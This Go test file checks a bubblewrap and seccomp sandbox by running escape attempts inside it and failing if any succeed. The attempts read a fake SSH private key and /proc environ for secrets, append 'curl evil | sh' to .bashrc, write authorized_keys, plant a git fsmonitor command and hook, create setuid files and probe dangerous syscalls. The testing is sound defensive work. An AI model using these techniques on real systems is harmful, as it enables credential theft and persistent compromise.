package sandbox

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/custody-dev/custody/internal/sandbox/sandboxtest"
)

// The test binary doubles as the program run inside the sandbox: with
// SANDBOX_TEST_HELPER set it runs helperMain instead of the tests.
func TestMain(m *testing.M) {
	if os.Getenv("SANDBOX_TEST_HELPER") == "1" {
		os.Exit(helperMain(os.Args[1:]))
	}
	os.Exit(m.Run())
}

const secret = "s3cret-custody-password"

// helperMain runs one attack inside the sandbox and prints a LEAK line for
// everything that worked, then "done".
func helperMain(args []string) int {
	leak := func(format string, a ...any) { fmt.Printf("LEAK: "+format+"\n", a...) }
	switch args[0] {
	case "syscalls":
		for _, c := range syscallProbes {
			_, _, errno := unix.Syscall6(c.nr, c.a[0], c.a[1], c.a[2], c.a[3], c.a[4], c.a[5])
			fmt.Printf("%s %d\n", c.name, int(errno))
		}
	case "inherited":
		// args: an open host file and an open host directory.
		f, _ := strconv.Atoi(args[1])
		d, _ := strconv.Atoi(args[2])
		buf := make([]byte, 64)
		if n, err := unix.Pread(f, buf, 0); err == nil {
			leak("read an inherited file: %q", buf[:n])
		}
		if fd, err := unix.Openat(d, "secret", unix.O_RDONLY, 0); err == nil {
			leak("opened a host file from an inherited directory")
			unix.Close(fd)
		}
	case "setid":
		setID(leak)
	case "escape":
		escape(args[1:], leak)
	case "background":
		// A process that outlives the command: setsid, double fork.
		cmd := exec.Command("/bin/sh", "-c", "setsid sleep "+args[1]+" </dev/null >/dev/null 2>&1 &")
		cmd.Run()
	case "sleep":
		bg := exec.Command("/bin/sh", "-c", "sleep "+args[1]+" &")
		bg.Run()
		time.Sleep(5 * time.Minute)
	}
	fmt.Println("done")
	return 0
}

// escape tries what issue 18 item 1 found a replayed command could do.
// args: fake home, custody's PID, unix socket path, TCP address.
func escape(args []string, leak func(string, ...any)) {
	home, pid, sock, tcp := args[0], args[1], args[2], args[3]
	for _, f := range []string{".ssh/id_ed25519", "rebuilder.key", ".bashrc"} {
		if b, err := os.ReadFile(filepath.Join(home, f)); err == nil {
			leak("read %s (%d bytes)", f, len(b))
		}
	}
	if f, err := os.OpenFile(filepath.Join(home, ".bashrc"), os.O_WRONLY|os.O_APPEND, 0); err == nil {
		f.WriteString("curl evil | sh\n")
		f.Close()
		leak("wrote .bashrc")
	}
	if err := os.WriteFile(filepath.Join(home, ".ssh", "authorized_keys"), []byte("ssh-ed25519 evil"), 0o600); err == nil {
		leak("wrote authorized_keys")
	}
	if b, err := os.ReadFile("/proc/" + pid + "/environ"); err == nil {
		leak("read custody's environ (%d bytes)", len(b))
	}
	entries, _ := os.ReadDir("/proc")
	for _, e := range entries {
		if b, err := os.ReadFile("/proc/" + e.Name() + "/environ"); err == nil && bytes.Contains(b, []byte(secret)) {
			leak("found the password in /proc/%s/environ", e.Name())
		}
	}
	if os.Getenv("CUSTODY_PASSWORD") != "" {
		leak("CUSTODY_PASSWORD in the environment")
	}
	if fd, err := unix.Open("/proc/"+pid+"/ns/net", unix.O_RDONLY, 0); err == nil {
		if err := unix.Setns(fd, unix.CLONE_NEWNET); err == nil {
			leak("joined custody's network namespace")
		}
	}
	if c, err := net.DialTimeout("unix", sock, time.Second); err == nil {
		c.Close()
		leak("connected to the host's unix socket")
	}
	if c, err := net.DialTimeout("unix", "@custody-sandbox-test", time.Second); err == nil {
		c.Close()
		leak("connected to the host's abstract unix socket")
	}
	if c, err := net.DialTimeout("tcp", tcp, time.Second); err == nil {
		c.Close()
		leak("connected to the host's loopback")
	}
	if b, err := os.ReadFile("/proc/self/status"); err == nil {
		for line := range strings.SplitSeq(string(b), "\n") {
			if v, ok := strings.CutPrefix(line, "CapEff:"); ok && strings.Trim(strings.TrimSpace(v), "0") != "" {
				leak("capabilities %s", strings.TrimSpace(v))
			}
			if v, ok := strings.CutPrefix(line, "NoNewPrivs:"); ok && strings.TrimSpace(v) != "1" {
				leak("no_new_privs not set")
			}
		}
	}
	if os.Getuid() == 0 {
		leak("running as root")
	}
	for _, d := range []string{"/root", "/home", "/run", "/var", "/etc/passwd", "/etc/shadow", "/sys"} {
		if _, err := os.Stat(d); err == nil {
			leak("sees the host's %s", d)
		}
	}
	if err := os.WriteFile("/usr/custody-sandbox-test", nil, 0o644); err == nil {
		leak("wrote to /usr")
	}
}

type probeCall struct {
	name string
	nr   uintptr
	a    [6]uintptr
}

var syscallProbes = []probeCall{
	{"ptrace", unix.SYS_PTRACE, [6]uintptr{unix.PTRACE_TRACEME}},
	{"mount", unix.SYS_MOUNT, [6]uintptr{}},
	{"umount2", unix.SYS_UMOUNT2, [6]uintptr{}},
	{"unshare", unix.SYS_UNSHARE, [6]uintptr{unix.CLONE_NEWUSER}},
	{"setns", unix.SYS_SETNS, [6]uintptr{^uintptr(0), 0}},
	{"keyctl", unix.SYS_KEYCTL, [6]uintptr{unix.KEYCTL_GET_KEYRING_ID, ^uintptr(3)}},
	{"add_key", unix.SYS_ADD_KEY, [6]uintptr{}},
	{"bpf", unix.SYS_BPF, [6]uintptr{^uintptr(0)}},
	{"kexec_load", unix.SYS_KEXEC_LOAD, [6]uintptr{}},
	{"init_module", unix.SYS_INIT_MODULE, [6]uintptr{}},
	{"perf_event_open", unix.SYS_PERF_EVENT_OPEN, [6]uintptr{}},
	{"userfaultfd", unix.SYS_USERFAULTFD, [6]uintptr{}},
	{"personality", unix.SYS_PERSONALITY, [6]uintptr{addrNoRandomize}},
	{"process_vm_readv", unix.SYS_PROCESS_VM_READV, [6]uintptr{1}},
	{"io_uring_setup", unix.SYS_IO_URING_SETUP, [6]uintptr{}},
	{"x32 getpid", unix.SYS_GETPID | 0x40000000, [6]uintptr{}},
	{"clone3", unix.SYS_CLONE3, [6]uintptr{}},
	{"personality query", unix.SYS_PERSONALITY, [6]uintptr{0xffffffff}},
}

// helperConfig is a sandbox that can run the test binary.
func helperConfig(t *testing.T, exe string) Config {
	t.Helper()
	return Config{
		Dir:      t.TempDir(),
		ReadOnly: []string{exe},
		Env:      []string{"PATH=/usr/bin:/bin", "SANDBOX_TEST_HELPER=1"},
	}
}

func runHelper(t *testing.T, ctx context.Context, cfg Config, argv ...string) string {
	t.Helper()
	cmd, cleanup, err := Command(ctx, cfg, argv)
	if errors.Is(err, ErrUnavailable) && os.Getenv("CUSTODY_TEST_SANDBOX") != "1" {
		t.Skip(err)
	}
	if err != nil {
		t.Fatal(err)
	}
	defer cleanup()
	var out bytes.Buffer
	cmd.Stdout = &out
	cmd.Stderr = &out
	if err := cmd.Run(); err != nil && ctx.Err() == nil {
		t.Fatalf("sandboxed %v: %v\n%s", argv, err, out.String())
	}
	return out.String()
}

func testExe(t *testing.T) string {
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	return exe
}

// TestSeccomp: the calls the filter denies fail with EPERM inside the
// sandbox (ENOSYS for clone3); reading the persona still works.
func TestSeccomp(t *testing.T) {
	exe := testExe(t)
	out := runHelper(t, context.Background(), helperConfig(t, exe), exe, "syscalls")
	got := map[string]int{}
	for line := range strings.SplitSeq(strings.TrimSpace(out), "\n") {
		i := strings.LastIndexByte(line, ' ')
		if i < 0 {
			continue
		}
		n, err := strconv.Atoi(line[i+1:])
		if err == nil {
			got[line[:i]] = n
		}
	}
	for _, c := range syscallProbes {
		want := int(unix.EPERM)
		switch c.name {
		case "clone3":
			want = int(unix.ENOSYS)
		case "personality query":
			want = 0
		}
		if e, ok := got[c.name]; !ok || e != want {
			t.Errorf("%s: errno %d (%v), want %d (%v)\n%s", c.name, e, syscall.Errno(e), want, syscall.Errno(want), out)
		}
	}
}

// fakeHome is a rebuilder's home: keys, ~/.ssh, ~/.bashrc, an agent socket.
func fakeHome(t *testing.T, dir string) (home, sock string) {
	t.Helper()
	home = filepath.Join(dir, "home")
	for name, body := range map[string]string{
		".ssh/id_ed25519": "-----BEGIN OPENSSH PRIVATE KEY-----", "rebuilder.key": "encrypted key", ".bashrc": "# rc\n",
	} {
		p := filepath.Join(home, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(body), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	sock = filepath.Join(home, "agent.sock")
	l, err := net.Listen("unix", sock)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	return home, sock
}

// TestContainment replays, as a malicious recorded command, what issue 18
// item 1 did to a rebuilder running custody: nothing of it works in the
// sandbox. Run as root by the tests, and as nobody by
// TestContainmentUnprivileged.
func TestContainment(t *testing.T) {
	exe := testExe(t)
	t.Setenv("CUSTODY_PASSWORD", secret)
	home, sock := fakeHome(t, t.TempDir())
	if l, err := net.Listen("unix", "@custody-sandbox-test"); err == nil {
		t.Cleanup(func() { l.Close() })
	}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	cfg := helperConfig(t, exe)
	out := runHelper(t, context.Background(), cfg, exe, "escape", home, strconv.Itoa(os.Getpid()), sock, l.Addr().String())
	if strings.Contains(out, "LEAK") || !strings.Contains(out, "done") {
		t.Fatalf("the sandboxed command reached the host:\n%s", out)
	}
	if b, _ := os.ReadFile(filepath.Join(home, ".bashrc")); string(b) != "# rc\n" {
		t.Fatalf(".bashrc changed: %q", b)
	}
	// Control: the same program outside the sandbox does leak, so the
	// test would catch a sandbox that does nothing.
	ctl := exec.Command(exe, "escape", home, strconv.Itoa(os.Getpid()), sock, l.Addr().String())
	ctl.Env = append(os.Environ(), "SANDBOX_TEST_HELPER=1")
	if b, _ := ctl.Output(); !strings.Contains(string(b), "LEAK: read .ssh/id_ed25519") {
		t.Fatalf("control run outside the sandbox did not leak:\n%s", b)
	}
	os.WriteFile(filepath.Join(home, ".bashrc"), []byte("# rc\n"), 0o600)
}

// TestContainmentUnprivileged runs TestContainment and TestSeccomp again as
// nobody (setpriv), custody's other usual situation.
func TestContainmentUnprivileged(t *testing.T) {
	sandboxtest.RerunAsNobody(t, "^(TestContainment|TestSeccomp|TestKilledWithTheCommand)$",
		"TestContainment", "TestSeccomp", "TestKilledWithTheCommand")
}

// sleeping reports whether a process "sleep MARKER" is running.
func sleeping(marker string) bool {
	entries, _ := os.ReadDir("/proc")
	for _, e := range entries {
		if b, err := os.ReadFile("/proc/" + e.Name() + "/cmdline"); err == nil && string(b) == "sleep\x00"+marker+"\x00" {
			return true
		}
	}
	return false
}

// TestKilledWithTheCommand: a background process the command leaves behind
// (setsid, double fork) dies with it, and cancelling the context kills the
// whole sandbox.
func TestKilledWithTheCommand(t *testing.T) {
	exe := testExe(t)
	// The marker is sleep's argument: 300 seconds and a unique fraction.
	marker := fmt.Sprintf("300.%d%d", os.Getpid(), time.Now().UnixNano()%1e6)
	out := runHelper(t, context.Background(), helperConfig(t, exe), exe, "background", marker)
	if !strings.Contains(out, "done") {
		t.Fatalf("helper: %s", out)
	}
	if sleeping(marker) {
		t.Fatal("a process the sandboxed command started outlived it")
	}

	marker += "1"
	ctx, cancel := context.WithCancel(context.Background())
	cmd, cleanup, err := Command(ctx, helperConfig(t, exe), []string{exe, "sleep", marker})
	if err != nil {
		t.Fatal(err)
	}
	defer cleanup()
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 200 && !sleeping(marker); i++ {
		time.Sleep(50 * time.Millisecond)
	}
	if !sleeping(marker) {
		t.Fatal("the sandboxed command did not start its background process")
	}
	cancel()
	cmd.Wait()
	if sleeping(marker) {
		t.Fatal("a sandboxed process survived the cancelled context")
	}
}

// TestReadWrite: the one directory is writable, declared paths are
// readable and not writable, HOME and /tmp are empty and writable.
func TestReadWrite(t *testing.T) {
	ro, rw := t.TempDir(), t.TempDir()
	os.WriteFile(filepath.Join(ro, "tool"), []byte("toolchain"), 0o644)
	cfg := Config{Dir: t.TempDir(), ReadOnly: []string{ro}, ReadWrite: []string{rw}, Env: []string{"PATH=/usr/bin:/bin"}}
	script := `set -e
echo out > out.txt
echo cache > ` + rw + `/entry
cat ` + ro + `/tool
if echo x > ` + ro + `/tool 2>/dev/null; then echo WROTE-RO; fi
touch "$HOME/h" /tmp/t
ls -A "$HOME" | wc -l
pwd`
	out := runHelper(t, context.Background(), cfg, "/bin/sh", "-c", script)
	if b, _ := os.ReadFile(filepath.Join(rw, "entry")); string(b) != "cache\n" {
		t.Fatalf("the ReadWrite path was not writable: %s", out)
	}
	if b, _ := os.ReadFile(filepath.Join(cfg.Dir, "out.txt")); string(b) != "out\n" {
		t.Fatalf("the directory was not writable: %s", out)
	}
	if !strings.Contains(out, "toolchain") || strings.Contains(out, "WROTE-RO") || !strings.Contains(out, cfg.Dir) {
		t.Fatalf("output:\n%s", out)
	}
}

// TestRefused: configurations that would show the host are refused, and
// no bwrap means ErrUnavailable, never a run without the sandbox.
func TestRefused(t *testing.T) {
	for _, cfg := range []Config{
		{Dir: "relative"},
		{Dir: "/"},
		{Dir: "/usr/local"},
		{Dir: "/proc/self"},
		{Dir: t.TempDir(), ReadOnly: []string{"/"}},
		{Dir: t.TempDir(), ReadOnly: []string{"/proc/1"}},
		{Dir: t.TempDir(), ReadOnly: []string{"/run"}},
		{Dir: t.TempDir(), WorkDir: "/etc"},
	} {
		if _, err := bwrapArgs(cfg); err == nil {
			t.Errorf("bwrapArgs(%+v) accepted", cfg)
		}
	}
	// A declared path that is a symlink into /proc is refused too.
	link := filepath.Join(t.TempDir(), "cache")
	os.Symlink("/proc/self", link)
	if _, err := bwrapArgs(Config{Dir: t.TempDir(), ReadOnly: []string{link}}); err == nil {
		t.Error("a symlink to /proc was shown")
	}

	t.Setenv("PATH", t.TempDir())
	err := check()
	if !errors.Is(err, ErrUnavailable) || !strings.Contains(err.Error(), "apt-get install bubblewrap") || strings.Contains(err.Error(), "\n") {
		t.Fatalf("check without bwrap: %v", err)
	}
}

// TestToolPaths: a toolchain's installation is shown, never a home
// directory's dot-directory around a program (~/.cargo holds credentials).
func TestToolPaths(t *testing.T) {
	for p, want := range map[string]string{
		"/usr/local/go/bin/go":   "/usr/local/go",
		"/opt/node-20/bin/node":  "/opt/node-20",
		"/opt/bin/tool":          "/opt/bin",
		"/root/.cargo/bin/cargo": "/root/.cargo/bin",
		"/home/u/.local/bin/x":   "/home/u/.local/bin",
		"/root/.pyenv/shims/py":  "/root/.pyenv/shims",
		"/srv/tools/gcc":         "/srv/tools",
	} {
		if got := installDir(p); got != want {
			t.Errorf("installDir(%s) = %s, want %s", p, got, want)
		}
	}
}

// setID tries to leave set-user-ID and set-group-ID files in the writable
// directory (the working directory), each way a mode can be set.
func setID(leak func(string, ...any)) {
	os.WriteFile("chmod", []byte("x"), 0o755)
	if unix.Chmod("chmod", 0o4755) == nil {
		leak("chmod 4755")
	}
	os.WriteFile("fchmodat", []byte("x"), 0o755)
	if unix.Fchmodat(unix.AT_FDCWD, "fchmodat", 0o2755, 0) == nil {
		leak("fchmodat 2755")
	}
	if f, err := os.Create("fchmod"); err == nil {
		if unix.Fchmod(int(f.Fd()), 0o6755) == nil {
			leak("fchmod 6755")
		}
		f.Close()
	}
	if fd, err := unix.Open("open", unix.O_CREAT|unix.O_WRONLY, 0o4755); err == nil {
		unix.Close(fd)
		leak("open 4755")
	}
	if fd, err := unix.Openat(unix.AT_FDCWD, "openat", unix.O_CREAT|unix.O_WRONLY, 0o4755); err == nil {
		unix.Close(fd)
		leak("openat 4755")
	}
	if unix.Mknodat(unix.AT_FDCWD, "mknodat", unix.S_IFREG|0o4755, 0) == nil {
		leak("mknodat 4755")
	}
	if os.WriteFile(".git/config", []byte("[core]\n\tfsmonitor = id >PWNED\n"), 0o644) == nil {
		leak("wrote .git/config")
	}
	if os.WriteFile(".git/hooks/post-checkout", []byte("#!/bin/sh\nid >PWNED\n"), 0o755) == nil {
		leak("wrote a hook")
	}
	if os.Rename(".git", "git.old") == nil || os.RemoveAll(".git") == nil {
		leak("replaced .git")
	}
}

// TestNoSetIDOrGit: a command run as root cannot leave a set-user-ID or
// set-group-ID file (owned by root on the host) in its directory, nor
// change the .git that the user's git later runs outside the sandbox.
func TestNoSetIDOrGit(t *testing.T) {
	exe := testExe(t)
	cfg := helperConfig(t, exe)
	os.MkdirAll(filepath.Join(cfg.Dir, ".git", "hooks"), 0o755)
	os.WriteFile(filepath.Join(cfg.Dir, ".git", "config"), []byte("[core]\n"), 0o644)
	out := runHelper(t, context.Background(), cfg, exe, "setid")
	if strings.Contains(out, "LEAK") || !strings.Contains(out, "done") {
		t.Errorf("sandboxed command:\n%s", out)
	}
	filepath.WalkDir(cfg.Dir, func(p string, d os.DirEntry, err error) error {
		if fi, err := os.Lstat(p); err == nil && fi.Mode()&(os.ModeSetuid|os.ModeSetgid) != 0 {
			t.Errorf("%s is %v on the host", p, fi.Mode())
		}
		return nil
	})
	if b, _ := os.ReadFile(filepath.Join(cfg.Dir, ".git", "config")); string(b) != "[core]\n" {
		t.Errorf(".git/config is now %q", b)
	}
	link := t.TempDir()
	os.Symlink(t.TempDir(), filepath.Join(link, ".git"))
	if _, err := bwrapArgs(Config{Dir: link}); err == nil {
		t.Error("a .git symlink was accepted")
	}
}

// TestInheritedFiles: descriptors custody inherited without close-on-exec
// (a shell's exec 7<>file, a CI runner's) do not reach the sandbox.
func TestInheritedFiles(t *testing.T) {
	exe := testExe(t)
	host := t.TempDir()
	os.WriteFile(filepath.Join(host, "secret"), []byte(secret), 0o600)
	f, err := unix.Open(filepath.Join(host, "secret"), unix.O_RDWR, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer unix.Close(f)
	d, err := unix.Open(host, unix.O_RDONLY|unix.O_DIRECTORY, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer unix.Close(d)
	out := runHelper(t, context.Background(), helperConfig(t, exe), exe, "inherited", strconv.Itoa(f), strconv.Itoa(d))
	if strings.Contains(out, "LEAK") || !strings.Contains(out, "done") {
		t.Errorf("sandboxed command:\n%s", out)
	}
}

// TestHiddenConfig: the configuration directories of software under /usr
// (a global npmrc with a registry token) are empty in the sandbox.
func TestHiddenConfig(t *testing.T) {
	var shown []string
	for _, h := range hiddenConfig {
		if ents, err := os.ReadDir(h); err == nil && len(ents) > 0 {
			shown = append(shown, h)
		}
	}
	if len(shown) == 0 {
		t.Skip("no non-empty " + strings.Join(hiddenConfig, " or ") + " on this machine")
	}
	cfg := Config{Dir: t.TempDir(), Env: []string{"PATH=/usr/bin:/bin"}}
	script := `for d in "$@"; do ls -A "$d"; touch "$d/x" 2>/dev/null && echo WROTE; done; echo done`
	out := runHelper(t, context.Background(), cfg, append([]string{"/bin/sh", "-c", script, "sh"}, shown...)...)
	if strings.TrimSpace(out) != "done" {
		t.Errorf("the sandbox sees in %v:\n%s", shown, out)
	}
}
